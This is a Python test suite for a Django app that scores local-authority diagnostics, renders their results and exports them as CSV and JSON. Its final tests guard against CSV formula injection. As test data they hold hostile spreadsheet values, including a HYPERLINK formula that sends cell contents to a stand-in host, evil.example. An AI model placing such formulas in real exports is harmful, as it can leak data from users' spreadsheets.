import csv
import io
import re
from fractions import Fraction

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from diagnostics.catalogue import catalogue_data, clear_catalogue_cache
from diagnostics.questionnaire.answers import (
    make_state,
    save_answer,
    state_of,
)
from diagnostics.results import exports
from diagnostics.results.exports import CSV_COLUMNS
from diagnostics.results.report import build_report
from diagnostics.services import submit_diagnostic
from recommendations.models import Question
from tests.diagnostics.helpers import small_catalogue
from tests.factories import CollectiviteFactory, DiagnosticFactory, MembershipFactory


def fill(diagnostic, by, answers):
    data = catalogue_data(diagnostic.catalogue_id)
    for code, (value, not_applicable) in answers.items():
        question = data.question_by_code(code)
        if question.kind == "choice":
            value = next(o.pk for o in data.options_by_question[question.pk] if o.label == value)
        save_answer(
            diagnostic=diagnostic,
            question=question,
            by=by,
            state=make_state(value=value, not_applicable=not_applicable, comment=""),
            base_revision=0,
        )


def submit(diagnostic, by):
    submit_diagnostic(diagnostic=diagnostic, by=by)
    diagnostic.refresh_from_db()


# Every required question at the value an unanswered one scores (0): only complete diagnostics
# are submitted.
LOWEST_ANSWERS = {
    "A1": (0, False),
    "A2": (False, False),
    "A3": ("Rien", False),
    "B1": (0, False),
    "B2": (0, False),
    "C1": (0, False),
}

HAND_ANSWERS = {
    "A1": (2, False),  # level 2 of 0..3 -> 2/3, weight 2
    "A2": (True, False),  # oui -> 1
    "A3": ("Un peu", False),  # 0.25
    "A4": ("250000", False),  # informative
    "B1": (1, False),  # 1/3
    "B2": (None, True),  # « Non concerné »: out of the denominator
    "C1": (None, True),  # the only question is N/A: « Non évaluée »
}


@pytest.fixture
def scored(db, collectivite, referent):
    version = small_catalogue()
    diagnostic = DiagnosticFactory(collectivite=collectivite, catalogue=version)
    fill(diagnostic, referent, HAND_ANSWERS)
    return diagnostic


def results_url(diagnostic):
    return reverse("diagnostic_results", args=[diagnostic.public_id])


def test_scores_match_the_method_computed_by_hand(client, scored, referent):
    # S1 = 100 × (2 × 2/3 + 1 × 1 + 1 × 0,25) ÷ (2 + 1 + 1) = 100 × 31/48 = 64,58… -> 65, Structurée
    # S2 = 100 × (1/3) ÷ 1 = 33,33… -> 33 (B2 is N/A), En développement
    # S3 undefined: « Non évaluée »
    # S = (64,583… + 33,333…) ÷ 2 = 48,958… -> 49, En développement (the unrounded score is < 50)
    # P1 = 35,4…, P2 = 66,7… -> priorities 2 then 1
    submit(scored, referent)
    assert scored.overall_score == pytest.approx(float(Fraction(235, 480) * 100))
    stored = dict(scored.recommendation_scores.values_list("number", "score"))
    assert stored == {1: pytest.approx(100 * 31 / 48), 2: pytest.approx(100 / 3), 3: None}
    client.force_login(referent)
    content = client.get(results_url(scored)).content.decode()
    assert ">49<" in content
    assert "En développement" in content
    assert ">65<" in content
    assert ">33<" in content
    assert "Non évaluée" in content
    report_priorities = content.index("Les trois priorités")
    assert content.index("2. Deux", report_priorities) < content.index("1. Un", report_priorities)


def test_the_detail_view_lists_each_question_and_its_contribution(client, scored, referent):
    client.force_login(referent)
    url = reverse("diagnostic_results_detail", args=[scored.public_id, 1])
    content = client.get(url).content.decode()
    # A1 contributes 100 × 2 × 2/3 ÷ 4 = 33,3 points; A2 25,0; A3 6,3 (6,25 rounded half up)
    assert "33,3" in content
    assert "25,0" in content
    assert "6,3" in content
    assert "250\u00a0000" in content or "250 000" in content


def test_results_are_provisional_until_submitted(client, scored, referent):
    client.force_login(referent)
    assert "Résultats provisoires" in client.get(results_url(scored)).content.decode()
    submit(scored, referent)
    assert "Résultats provisoires" not in client.get(results_url(scored)).content.decode()


def test_proposed_actions_follow_the_rule(client, scored, referent):
    client.force_login(referent)
    content = client.get(results_url(scored)).content.decode()
    assert "Action liée à A3" in content  # A3 = 0,25 ≤ 0,5
    assert "Action de la recommandation 1" in content  # S1 < 75
    assert "Action de la recommandation 2" in content


def test_an_empty_diagnostic_has_defined_results(client, collectivite, referent, db):
    diagnostic = DiagnosticFactory(collectivite=collectivite, catalogue=small_catalogue())
    client.force_login(referent)
    response = client.get(results_url(diagnostic))
    assert response.status_code == 200
    assert ">0<" in response.content.decode()
    assert "Pas d’évolution à montrer" in response.content.decode()


def test_the_radar_chart_is_inline_svg_with_a_title(client, scored, referent):
    client.force_login(referent)
    content = client.get(results_url(scored)).content.decode()
    assert "<svg" in content
    assert "<title" in content
    assert 'role="img"' in content


def test_evolution_against_the_previous_submitted_diagnostic(client, collectivite, referent, db):
    version = small_catalogue()
    before = DiagnosticFactory(
        collectivite=collectivite, catalogue=version, title="2025", year=2025
    )
    fill(before, referent, {**LOWEST_ANSWERS, "A1": (3, False)})
    submit(before, referent)
    now = DiagnosticFactory(collectivite=collectivite, catalogue=version, title="2026", year=2026)
    fill(now, referent, HAND_ANSWERS)
    client.force_login(referent)
    content = client.get(results_url(now)).content.decode()
    assert "Comparaison avec « 2025 »" in content
    # S2 went from 0 to 33 points; S1 from 50 to 65.
    assert "hausse +33\u00a0points" in content
    assert "hausse +15\u00a0points" in content
    # The overall change at the top, with its unit, since last year's diagnostic.
    assert re.search(r"▲</span> \+\d+\u00a0points? depuis 2025<", content)
    assert "Pas d’évolution à montrer" not in content


def test_evolution_is_flagged_when_catalogue_versions_differ(client, collectivite, referent, db):
    before = DiagnosticFactory(collectivite=collectivite, catalogue=small_catalogue("v1"))
    fill(before, referent, LOWEST_ANSWERS)
    submit(before, referent)
    now = DiagnosticFactory(collectivite=collectivite, catalogue=small_catalogue("v2"))
    client.force_login(referent)
    content = client.get(results_url(now)).content.decode()
    assert "pas la même version du catalogue" in content


def make_peers(version, count, *, kind="commune"):
    for index in range(count):
        peer = CollectiviteFactory(kind=kind, name=f"Pair secret {index}")
        user = MembershipFactory(collectivite=peer, role="referent").user
        older = DiagnosticFactory(collectivite=peer, catalogue=version, title="Ancien")
        fill(older, user, LOWEST_ANSWERS)
        submit(older, user)
        diagnostic = DiagnosticFactory(collectivite=peer, catalogue=version)
        fill(
            diagnostic,
            user,
            {**LOWEST_ANSWERS, "A1": (index % 4, False), "B1": (3, False), "B2": (None, True)},
        )
        submit(diagnostic, user)


def test_peers_appear_only_from_five_and_never_by_name(client, scored, referent):
    client.force_login(referent)
    make_peers(scored.catalogue, 4)
    make_peers(scored.catalogue, 3, kind="region")  # another type: never counted
    content = client.get(results_url(scored)).content.decode()
    assert "Pas encore assez de collectivités comparables" in content
    make_peers(scored.catalogue, 1)
    content = client.get(results_url(scored)).content.decode()
    assert "Comparaison anonyme avec 5 autres collectivités" in content
    assert "Pair secret" not in content
    assert "Médiane des pairs" in content


def test_peers_use_each_collectivites_latest_submitted_diagnostic(scored, referent):
    from diagnostics.results.comparisons import peer_figures

    make_peers(scored.catalogue, 5)
    figures = peer_figures(scored)
    assert figures.count == 5
    # Each peer's latest diagnostic has B1 at the top level and B2 « Non concerné »: S2 = 100
    # (their older diagnostics, at S2 = 0, must not count).
    assert figures.medians[2] == pytest.approx(100)
    assert figures.means[2] == pytest.approx(100)


def count_queries(client, url):
    from diagnostics.catalogue import clear_catalogue_cache

    clear_catalogue_cache()  # count the worst case: the catalogue read from the database
    with CaptureQueriesContext(connection) as context:
        assert client.get(url).status_code == 200
    return len(context.captured_queries)


def test_results_query_count_does_not_grow_with_answers_questions_or_peers(
    client, collectivite, referent, catalogue, catalogue_content
):
    client.force_login(referent)
    small = DiagnosticFactory(collectivite=collectivite, catalogue=small_catalogue())
    big = DiagnosticFactory(collectivite=collectivite, catalogue=catalogue)
    counts = [count_queries(client, results_url(small)), count_queries(client, results_url(big))]
    fill(small, referent, HAND_ANSWERS)
    make_peers(small.catalogue, 5)
    counts.append(count_queries(client, results_url(small)))
    make_peers(small.catalogue, 3)
    counts.append(count_queries(client, results_url(small)))
    assert len(set(counts)) == 1, counts
    assert counts[0] <= 15


def test_csv_export_has_stable_columns_and_unrounded_scores(client, scored, referent):
    client.force_login(referent)
    response = client.get(reverse("diagnostic_export_csv", args=[scored.public_id]))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == CSV_COLUMNS
    first = dict(zip(rows[0], rows[1], strict=True))
    assert float(first["preconisation_score"]) == pytest.approx(100 * 31 / 48)
    assert first["preconisation_score"] != "65"
    assert len(rows) == 1 + 7


def test_json_export_carries_unrounded_values(client, scored, referent):
    client.force_login(referent)
    data = client.get(reverse("diagnostic_export_json", args=[scored.public_id])).json()
    assert data["score_global"] == pytest.approx(100 * 235 / 480)
    assert data["preconisations"][2]["score"] is None
    assert data["priorites"] == [2, 1]


@pytest.mark.parametrize(
    "name",
    ["diagnostic_results", "diagnostic_export_csv", "diagnostic_export_json"],
)
def test_results_and_exports_are_404_for_other_collectivites(client, scored, outsider, name):
    client.force_login(outsider)
    assert client.get(reverse(name, args=[scored.public_id])).status_code == 404


def test_an_elu_reads_the_results(client, scored, elu):
    client.force_login(elu)
    assert client.get(results_url(scored)).status_code == 200


def test_proposed_actions_are_listed_by_priority_rank(client, scored, referent):
    # Priorities are 2 then 1: recommendation 2's actions come first on the page.
    client.force_login(referent)
    content = client.get(results_url(scored)).content.decode()
    actions = content[content.index('id="actions"') :]
    assert actions.index("Action de la recommandation 2") < actions.index("Action liée à A3")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Oui = bien", "Oui = bien"),
        ("", ""),
        (3, "3"),
    ],
)
def test_a_csv_cell_is_never_read_as_a_formula(value, cell):
    assert exports.safe_cell(value) == cell


def test_the_csv_export_quotes_texts_that_look_like_formulas(client, scored, referent):
    question = catalogue_data(scored.catalogue_id).question_by_code("A1")
    answer = scored.answers.get(question=question)
    save_answer(
        diagnostic=scored,
        question=question,
        by=referent,
        state={**state_of(answer), "comment": '=HYPERLINK("http://exemple.localhost")'},
        base_revision=answer.revision,
    )
    scored.collectivite.name = "@Commune"
    scored.collectivite.save()
    client.force_login(referent)
    response = client.get(reverse("diagnostic_export_csv", args=[scored.public_id]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["commentaire"] == '\'=HYPERLINK("http://exemple.localhost")'
    assert first["collectivite"] == "'@Commune"


def test_no_csv_cell_starts_like_a_formula_whatever_column_it_is_in(client, scored, referent):
    data = catalogue_data(scored.catalogue_id)
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    for code, comment in [("A1", hyperlink), ("A2", "\t=1+1"), ("A3", "\r@SUM(A1)")]:
        question = data.question_by_code(code)
        answer = scored.answers.get(question=question)
        save_answer(
            diagnostic=scored,
            question=question,
            by=referent,
            state={**state_of(answer), "comment": comment},
            base_revision=answer.revision,
        )
    Question.objects.filter(pk=data.question_by_code("B1").pk).update(text="\t-1 ou +1 ?")
    clear_catalogue_cache()
    scored.collectivite.name = "\r=Commune"
    scored.collectivite.save()
    scored.title = "+33 diagnostic"
    scored.save()
    referent.email = "-referent@exemple.localhost"
    referent.save()
    client.force_login(referent)
    response = client.get(reverse("diagnostic_export_csv", args=[scored.public_id]))
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert hyperlink not in text.replace(f"'{hyperlink}", "")
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert [cell for row in rows for cell in row if cell.startswith(dangerous)] == []
    by_code = {row[10]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_code["A1"]["commentaire"] == "'" + hyperlink
    assert by_code["A2"]["commentaire"] == "'\t=1+1"
    assert by_code["A3"]["commentaire"] == "'\r@SUM(A1)"
    assert by_code["B1"]["question_intitule"] == "'\t-1 ou +1 ?"
    assert by_code["A1"]["collectivite"] == "'\r=Commune"
    assert by_code["A1"]["diagnostic_titre"] == "'+33 diagnostic"
    assert by_code["A1"]["modifiee_par"] == "'-referent@exemple.localhost"


def test_the_exports_are_built_from_the_report_alone(client, scored, referent):
    report = build_report(scored)
    client.force_login(referent)
    csv_response = client.get(reverse("diagnostic_export_csv", args=[scored.public_id]))
    json_response = client.get(reverse("diagnostic_export_json", args=[scored.public_id]))
    assert csv_response.content == exports.csv_bytes(report)
    assert json_response.content == exports.json_bytes(report)
    assert json_response["Content-Type"] == "application/json"
    assert exports.csv_rows(report)[0] == CSV_COLUMNS
    assert exports.json_data(report)["priorites"] == [2, 1]
